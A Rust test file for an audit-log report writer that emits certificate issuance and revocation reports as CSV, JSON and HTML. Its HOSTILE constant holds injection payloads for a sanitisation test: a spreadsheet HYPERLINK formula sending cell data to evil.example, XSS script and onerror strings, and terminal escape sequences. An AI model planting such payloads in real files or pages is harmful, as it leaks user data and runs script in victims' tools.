#![allow(clippy::unwrap_used, clippy::panic)]
use serde_json::Value;
use tempfile::TempDir;

use super::*;
use crate::{Act, Edge, Entry, Folder, Previous, Resource, Revocation, Text, X509};

/// A log that acts are put into, a minute after each other.
struct Log {
    folder: TempDir,
    edge: Edge,
}

const BEGIN: i64 = 1_793_491_200; // 2026-11-01T00:00:00Z
const ID: &str = "spiffe://example.org/shop/orders";

fn at(seconds: i64) -> OffsetDateTime {
    OffsetDateTime::from_unix_timestamp(BEGIN + seconds).unwrap()
}

fn days(from: i64, to: i64) -> Window {
    Window::new(at(from * 86_400), at(to * 86_400)).unwrap()
}

fn certificate(number: u8, id: &str) -> X509 {
    X509 {
        serial: hex::encode([number; 16]),
        spiffe_id: id.to_owned(),
        profile: "workload".to_owned(),
        rule: "shop".to_owned(),
        not_before: BEGIN,
        not_after: BEGIN + 3600 * i64::from(number),
        authority: "3f".repeat(20),
        certificate: "ab".repeat(32),
        key: "cd".repeat(32),
        attestation: "join_token".to_owned(),
        evidence: "ef".repeat(32),
    }
}

fn revocation(number: i64, kind: &str, target: &str) -> Act {
    Act::Revoked(Revocation {
        number,
        kind: kind.to_owned(),
        target: Text::from(target),
        reason: 1,
        actor: "admin".to_owned(),
        comment: Text::from("stolen"),
        certificates: 1,
        agents: 0,
        epoch: 1,
    })
}

fn serials(revocation: i64, serials: &[u8]) -> Act {
    let serials = serials.iter().map(|number| hex::encode([*number; 16])).collect();
    Act::RevokedSerials { revocation, epoch: 1, authority: "3f".repeat(20), serials }
}

impl Log {
    fn new() -> Self {
        Self { folder: TempDir::new().unwrap(), edge: Edge::default() }
    }

    fn with(acts: Vec<(i64, Act)>) -> Self {
        let mut log = Self::new();
        acts.into_iter().for_each(|(seconds, act)| log.add(seconds, act));
        log
    }

    fn add(&mut self, seconds: i64, act: Act) {
        let entry = Entry::new(at(seconds), act).unwrap().encode().unwrap();
        self.edge
            .append(&entry, |resource, bytes| Folder::new(self.folder.path()).write(resource, &bytes).unwrap())
            .unwrap();
    }

    fn checkpoint(&self) -> Checkpoint {
        for (resource, bytes) in self.edge.partial() {
            Folder::new(self.folder.path()).write(resource, &bytes).unwrap();
        }
        Checkpoint { origin: "example.org/audit/1".parse().unwrap(), size: self.edge.size(), root: self.edge.root() }
    }

    fn report(&self, window: Window, format: Format) -> Result<(String, Made), ReportError> {
        let mut bytes = Vec::new();
        let folder = Folder::new(self.folder.path());
        let made = write(&folder, &self.checkpoint(), Terms { window, format }, 2, &mut bytes, &())?;
        assert_eq!((made.bytes, made.sha256), (bytes.len() as u64, crate::sha256(&bytes)));
        Ok((String::from_utf8(bytes).unwrap(), made))
    }

    fn text(&self, window: Window, format: Format) -> String {
        self.report(window, format).unwrap().0
    }

    fn rows(&self, window: Window) -> Vec<Value> {
        let (text, made) = self.report(window, Format::Json).unwrap();
        let rows: Vec<Value> = serde_json::from_str(&text).unwrap();
        assert_eq!(rows.len() as u64, made.rows);
        assert_eq!(self.text(window, Format::Csv).lines().count(), rows.len() + 1);
        rows
    }
}

fn shown(rows: &[Value], column: &str) -> Vec<String> {
    rows.iter().map(|row| row[column].as_str().unwrap_or_default().to_owned()).collect()
}

#[test]
fn a_report_has_the_certificates_of_its_window_as_aws_writes_them() {
    let begun = Act::LogBegun {
        trust_domain: "example.org".to_owned(),
        software: "1".to_owned(),
        previous: Some(Previous { origin: "o".to_owned(), size: 1, root: "r".to_owned() }),
    };
    let log = Log::with(vec![
        (-90_000, Act::X509Issued(certificate(1, ID))),
        (0, begun),
        (60, Act::X509Issued(certificate(2, ID))),
        (86_399, Act::X509Issued(certificate(3, ID))),
        (86_400, Act::X509Issued(certificate(4, ID))),
        (90_000, revocation(1, "serial", &hex::encode([2; 16]))),
        (90_000, serials(1, &[2])),
    ]);
    assert_eq!(
        log.text(days(0, 1), Format::Csv),
        "serial,subject,notBefore,notAfter,issuedAt,revokedAt,revocationReason,template,spiffeId,requester,attestation,rule,authority,logIndex,revokedLogIndex\n\
         02:02:02:02:02:02:02:02:02:02:02:02:02:02:02:02,,2026-11-01T00:00:00+0000,2026-11-01T02:00:00+0000,2026-11-01T00:01:00+0000,\
         2026-11-02T01:00:00+0000,KEY_COMPROMISE,workload,spiffe://example.org/shop/orders,,join_token,shop,3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f,2,6\n\
         03:03:03:03:03:03:03:03:03:03:03:03:03:03:03:03,,2026-11-01T00:00:00+0000,2026-11-01T03:00:00+0000,2026-11-01T23:59:59+0000,,,\
         workload,spiffe://example.org/shop/orders,,join_token,shop,3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f3f,3,\n"
    );
    let rows = log.rows(days(0, 1));
    assert_eq!((rows[0]["logIndex"].as_u64(), rows[0]["revokedLogIndex"].as_u64()), (Some(2), Some(6)));
    // As AWS leaves out what there is not.
    assert_eq!((rows[1].get("revokedAt"), rows[1].get("subject")), (None, None));
    assert_eq!(log.text(days(5, 6), Format::Json), "[\n]\n");
}

#[test]
fn what_was_revoked_in_the_window_is_in_the_report_whenever_it_was_issued() {
    let log = Log::with(vec![
        (0, Act::X509Issued(certificate(1, ID))),
        (1, Act::X509Issued(certificate(2, ID))),
        (2, revocation(1, "id", ID)),
        (2, serials(1, &[2])),
        // Of another replica's log; and once more, which changes nothing.
        (5 * 86_400, revocation(2, "id", ID)),
        (5 * 86_400, serials(2, &[1, 2, 9, 8])),
    ]);
    let rows = log.rows(days(5, 6));
    let of = |number: u8| vec![format!("{number:02x}"); 16].join(":");
    assert_eq!(shown(&rows, "serial"), [of(1), of(8), of(9)]);
    assert_eq!(shown(&rows, "revokedAt"), ["2026-11-06T00:00:00+0000"; 3]);
    assert_eq!(shown(&rows, "issuedAt"), ["2026-11-01T00:00:00+0000", "", ""]);
    assert_eq!(shown(&rows, "authority"), [(); 3].map(|()| "3f".repeat(20)));
    let first = log.rows(days(0, 1));
    assert_eq!(shown(&first, "revokedAt"), ["2026-11-06T00:00:00+0000", "2026-11-01T00:00:02+0000"]);
}

#[test]
fn with_an_authority_all_that_it_issued_is_revoked() {
    let log = Log::with(vec![
        // One that had expired by then.
        (0, Act::X509Issued(certificate(1, ID))),
        (0, Act::X509Issued(certificate(200, ID))),
        (0, Act::X509Issued(X509 { authority: "aa".repeat(20), ..certificate(201, ID) })),
        (90_000, revocation(1, "authority", &"3f".repeat(20))),
        (90_001, Act::X509Issued(certificate(202, ID))),
    ]);
    let revoked = |rows: Vec<Value>| shown(&rows, "revokedAt").iter().map(|at| !at.is_empty()).collect::<Vec<_>>();
    assert_eq!(revoked(log.rows(days(0, 1))), [false, true, false]);
    assert_eq!(revoked(log.rows(days(1, 2))), [true, false]);
}

#[test]
fn who_asked_is_told_by_the_identity_that_was_shown() {
    let shows = |number: u8, shown: u8| X509 {
        attestation: "x509_svid".to_owned(),
        evidence: hex::encode([shown; 16]),
        ..certificate(number, ID)
    };
    let log = Log::with(vec![
        (-90_000, Act::X509Issued(certificate(1, "spiffe://example.org/agent/7"))),
        (0, Act::X509Issued(shows(2, 1))),
        (1, Act::X509Issued(shows(3, 2))),
        (2, Act::X509Issued(shows(4, 99))),
        (3, Act::X509Issued(certificate(5, ID))),
    ]);
    let requesters = ["spiffe://example.org/agent/7", ID, "", ""];
    assert_eq!(shown(&log.rows(days(0, 1)), "requester"), requesters);
}

#[test]
fn the_same_log_gives_the_same_bytes_and_what_came_later_none_of_them() {
    let mut log = Log::new();
    for number in 0..700_u32 {
        let mut of = certificate((number % 250) as u8, &format!("{ID}/{number}"));
        of.serial = format!("{number:032x}");
        log.add(i64::from(number) * 400, Act::X509Issued(of));
    }
    let checkpoint = log.checkpoint();
    let make = |threads, terms| {
        let mut bytes = Vec::new();
        write(&Folder::new(log.folder.path()), &checkpoint, terms, threads, &mut bytes, &()).unwrap();
        bytes
    };
    let before = Format::ALL.map(|format| make(1, Terms { window: days(0, 3), format }));
    for (format, before) in Format::ALL.into_iter().zip(&before) {
        assert_eq!(&make(3, Terms { window: days(0, 3), format }), before, "{format}");
    }
    log.add(700 * 400, Act::X509Issued(certificate(250, ID)));
    log.checkpoint();
    let mut after = Vec::new();
    let terms = Terms { window: days(0, 3), format: Format::Csv };
    write(&Folder::new(log.folder.path()), &checkpoint, terms, 2, &mut after, &()).unwrap();
    assert_eq!(after, before[0]);
}

#[test]
fn no_report_is_made_of_a_log_that_was_changed() {
    let mut log = Log::new();
    for number in 0..600 {
        log.add(number, Act::X509Issued(certificate(1, ID)));
    }
    log.checkpoint();
    let path = log.folder.path().join("tile/entries/001");
    let mut bytes = std::fs::read(&path).unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    std::fs::write(&path, bytes).unwrap();
    for format in Format::ALL {
        let Err(ReportError::Log { fault, more }) = log.report(days(0, 1), format) else { panic!("{format}") };
        assert!(matches!(fault, Fault::Entry { index: 511, .. }), "{fault}");
        assert!(more.is_empty());
    }
    std::fs::remove_file(
        log.folder.path().join(Resource::Tile { level: 0, index: 0, width: crate::Width::Whole }.to_string()),
    )
    .unwrap();
    assert!(matches!(log.report(days(0, 1), Format::Csv), Err(ReportError::Log { fault: Fault::Read(_), .. })));
}

#[test]
fn whoever_cannot_be_written_to_ends_it() {
    struct Full;
    impl Write for Full {
        fn write(&mut self, _bytes: &[u8]) -> std::io::Result<usize> {
            Err(std::io::ErrorKind::StorageFull.into())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }
    let mut log = Log::new();
    for number in 0..1000 {
        log.add(number, Act::X509Issued(certificate(1, ID)));
    }
    let terms = Terms { window: days(0, 1), format: Format::Csv };
    let refused = write(&Folder::new(log.folder.path()), &log.checkpoint(), terms, 2, &mut Full, &());
    assert!(matches!(refused, Err(ReportError::Write(_))), "{refused:?}");
}

/// Names that no issuer of ours lets through, though another may.
const HOSTILE: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "</title><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "\r\n+1,2,3",
    "moc.elgoog\u{202e}\u{2066}",
    "\0\u{85}\u{2028}\u{feff}\u{fffd}",
];

#[test]
fn a_hostile_name_harms_no_spreadsheet_no_terminal_and_no_page() {
    let mut log = Log::new();
    let long = "ö".repeat(1024);
    for (number, hostile) in (1..).zip(HOSTILE.into_iter().chain([long.as_str()])) {
        let of = X509 {
            profile: hostile.to_owned(),
            rule: hostile.to_owned(),
            authority: hostile.to_owned(),
            attestation: hostile.to_owned(),
            ..certificate(number, hostile)
        };
        log.add(0, Act::X509Issued(of));
        let (whom, reason) = (Text::from(hostile), Text::from(hostile));
        log.add(0, Act::Refused { what: hostile.to_owned(), whom, reason, left_out: 0 });
    }
    let rows = log.rows(days(0, 1));
    assert_eq!(shown(&rows[..HOSTILE.len()], "spiffeId"), HOSTILE);
    for format in Format::ALL {
        let text = log.text(days(0, 1), format);
        let hostile = text.chars().find(|character| row::is_hostile(*character) && *character != '\n');
        assert_eq!(hostile, None, "{format}: {hostile:?}");
    }
    for line in log.text(days(0, 1), Format::Csv).lines().skip(1) {
        assert!(!line.contains(",=") && !line.contains(",+") && !line.contains("\"="), "{line}");
    }
    let page = log.text(days(0, 1), Format::Html);
    for forbidden in ["<script", "<img", " onmouseover=\"", "style=\"", "=\"http", "href=", "url("] {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
    assert!(page.len() < 100_000, "{}", page.len());
}

#[test]
fn a_page_is_bounded_whatever_the_log_has() {
    let mut log = Log::new();
    for number in 0..3000_u32 {
        let name = format!("{number}-{}", "<".repeat(300));
        let of = X509 { profile: name.clone(), authority: name.clone(), ..certificate(1, &name) };
        log.add(i64::from(number) * 86_400, Act::X509Issued(of));
    }
    let century = Window::new(at(-86_400 * 3650), at(86_400 * 36_500)).unwrap();
    let page = log.text(century, Format::Html);
    assert!(page.len() < 100_000, "{}", page.len());
    assert!(page.contains("others"));
    let all = Window::new(Window::time("0001-01-01").unwrap(), Window::time("9999-12-31").unwrap()).unwrap();
    assert!(log.text(all, Format::Html).contains("<b>3,000</b>"));
}

#[test]
fn a_page_shows_no_more_than_there_is() {
    let log = Log::with(vec![(0, Act::Started { software: "1".to_owned() })]);
    let page = log.text(days(0, 1), Format::Html);
    assert!(page.contains("No certificate was issued in this time") && page.contains("Nothing in this time"), "{page}");
    assert!(Log::new().text(days(0, 1), Format::Html).contains("<dd>0</dd>"));
}
